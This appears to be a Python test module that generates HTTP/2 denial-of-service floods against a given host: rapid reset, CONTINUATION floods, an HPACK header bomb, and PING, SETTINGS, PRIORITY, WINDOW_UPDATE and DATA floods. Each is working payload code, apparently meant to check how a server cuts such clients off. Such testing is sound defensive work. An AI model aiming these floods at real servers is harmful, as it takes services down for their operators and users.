"""Floods of HTTP/2 frames: what a client may send without end, until it is cut off.

A flood is a first batch of bytes and one that is repeated; each is legal by itself or nearly so.
"""

import itertools
from collections.abc import Iterator
from dataclasses import dataclass

from support.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RESET,
    SETTINGS,
    WINDOW,
    block,
    frame,
    request,
)

MOST = 50_000
"""Frames that a flood is given up after."""
BATCH = 200
"""Frames sent at once."""
_CANCEL = (8).to_bytes(4, "big")


@dataclass(frozen=True)
class Flood:
    """One kind of flood."""

    name: str
    frames: Iterator[bytes]
    """Endless."""

    def batches(self) -> Iterator[bytes]:
        """What is sent, the preface first."""
        yield PREFACE + frame(SETTINGS, 0, 0)
        for _ in range(MOST // BATCH):
            yield b"".join(itertools.islice(self.frames, BATCH))


def _opened(host: str, then: bytes, *, end: bool = False) -> Iterator[bytes]:
    """One request, and after it the same frame for ever."""
    flags = END_HEADERS | (END_STREAM if end else 0)
    yield frame(HEADERS, flags, 1, block(request(host=host)))
    yield from itertools.repeat(then)


def _resets(host: str) -> Iterator[bytes]:
    head = block(request(host=host))
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head)
        yield frame(RESET, 0, stream, _CANCEL)


def _continued(host: str, piece: bytes) -> Iterator[bytes]:
    """A header block without an end."""
    yield frame(HEADERS, 0, 1, block(request(host=host)))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, piece))


def _bomb(host: str) -> Iterator[bytes]:
    """A field of 3.9 kB that takes one byte to name again: 16 MB of headers in a frame."""
    size = 3_900
    value = b"\x7f" + bytes([(size - 127) & 0x7F | 0x80, (size - 127) >> 7]) + b"a" * size
    entry = b"\x40\x01x" + value
    for stream in itertools.count(1, 2):
        content = block(request(host=host)) + entry + b"\xbe" * 4_000
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, content)


def all_of(host: str) -> tuple[Flood, ...]:
    """One flood of each kind, to a host."""
    update = (1).to_bytes(4, "big")
    return (
        Flood("rapid reset", _resets(host)),
        Flood("continuation", _continued(host, b"\x00\x01x\x7f\x80\x78" + b"a" * 8_000)),
        Flood("empty continuation", _continued(host, b"")),
        Flood("compressed headers", _bomb(host)),
        Flood("ping", itertools.repeat(frame(PING, 0, 0, bytes(8)))),
        Flood("settings", itertools.repeat(frame(SETTINGS, 0, 0, b"\0\3\0\0\0\144"))),
        Flood("empty settings", itertools.repeat(frame(SETTINGS, 0, 0))),
        Flood("priority", _opened(host, frame(PRIORITY, 0, 1, bytes(4) + b"\x10"))),
        Flood("window", _opened(host, frame(WINDOW, 0, 1, update))),
        Flood("window of the connection", _opened(host, frame(WINDOW, 0, 0, update))),
        Flood("empty data", _opened(host, frame(DATA, 0, 1))),
        Flood("data after the end", _opened(host, frame(DATA, 0, 1, b"a"), end=True)),
    )
